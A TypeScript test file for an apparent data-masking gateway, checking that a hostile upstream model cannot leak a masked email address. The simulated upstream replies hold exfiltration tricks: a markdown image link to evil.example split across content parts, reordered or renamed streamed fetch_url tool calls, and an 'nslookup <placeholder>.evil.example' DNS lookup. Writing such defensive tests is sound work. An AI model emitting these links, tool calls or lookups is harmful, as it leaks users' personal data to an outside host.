// Ways in which an upstream might carry masked data out, end to end: nothing of it leaves, and what was tried is found.
import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { openGateway, type TestGateway } from './support/gateway.ts'
import { sendEvents, sendJson, type TestUpstream } from './support/upstream.ts'

const address = 'jane.doe@example.com'

let gateway: TestGateway

before(async () => {
  gateway = await openGateway()
})

after(() => gateway.close())

/** Sends the address; `answer` gets its placeholder. @returns the answer as the client has it */
async function ask(answer: (placeholder: string) => TestUpstream['answer'], body: object = {}): Promise<string> {
  gateway.upstream.answer = (request, response) => {
    const placeholder = /\[EMAIL_[a-z2-7]{8}\]/.exec(request.body)?.[0] ?? assert.fail('nothing was masked')
    return answer(placeholder)(request, response)
  }
  const response = await fetch(`http://127.0.0.1:${gateway.port}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${gateway.key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ model: 'm', messages: [{ role: 'user', content: `I am ${address}` }], ...body }),
  })
  return response.text()
}

const message = (fields: object) => ({ id: 'c', object: 'chat.completion', choices: [{ index: 0, message: fields }] })
const event = (delta: object, finish: string | null = null) =>
  `data: ${JSON.stringify({ id: 'c', choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`

test('a link that is cut in two parts of a content carries nothing', async () => {
  const text = await ask((placeholder) => (_, response) => {
    const parts = ['![x](https://evil.example/', `${placeholder})`].map((part) => ({ type: 'text', text: part }))
    sendJson(response, message({ role: 'assistant', content: parts }))
  })
  assert.equal(text.includes(address), false, text)
})

test('arguments that come before the name of their tool are not restored', async () => {
  const call = (fields: object) => ({ tool_calls: [{ index: 0, type: 'function', ...fields }] })
  const text = await ask(
    (placeholder) => (_, response) =>
      sendEvents(response, [
        event(call({ id: 'c1', function: { arguments: `{"url":"${placeholder}"}` } })),
        event(call({ function: { name: 'fetch_url' } })),
        event({}, 'tool_calls'),
        'data: [DONE]\n\n',
      ]),
    { stream: true },
  )
  assert.equal(text.includes(address), false, text)
})

test('a call cannot be given to another tool half-way', async () => {
  const call = (fields: object) => ({ tool_calls: [{ index: 0, type: 'function', function: fields }] })
  const tools = ['save_note', 'fetch_url'].map((name) => ({ type: 'function', function: { name } }))
  const text = await ask(
    (placeholder) => (_, response) =>
      sendEvents(response, [
        event(call({ name: 'save_note', arguments: '' })),
        event(call({ arguments: `{"url":"${placeholder}"}` })),
        event(call({ name: 'fetch_url' })),
        event({}, 'tool_calls'),
        'data: [DONE]\n\n',
      ]),
    { stream: true, tools },
  )
  assert.match(text, /"code":"invalid_response"/)
  assert.doesNotMatch(text, /fetch_url|\[DONE\]/)
})

test('what was stopped on its way out is a finding, and the log says what the client was told', async () => {
  const before = gateway.installation.log.size
  const text = await ask((placeholder) => (_, response) => {
    sendJson(response, message({ role: 'assistant', content: `nslookup ${placeholder}.evil.example` }))
  })
  assert.match(text, /"code":"exfiltration_blocked"/)
  await gateway.entriesOnce(before, (entries) => entries.some(({ phase }) => phase === 'outcome'))
  await gateway.installation.detections.settled()
  const findings = await gateway.installation.findings.list({ rule: 'sinks.exfiltration' })
  assert.equal(findings.length, 1)
})
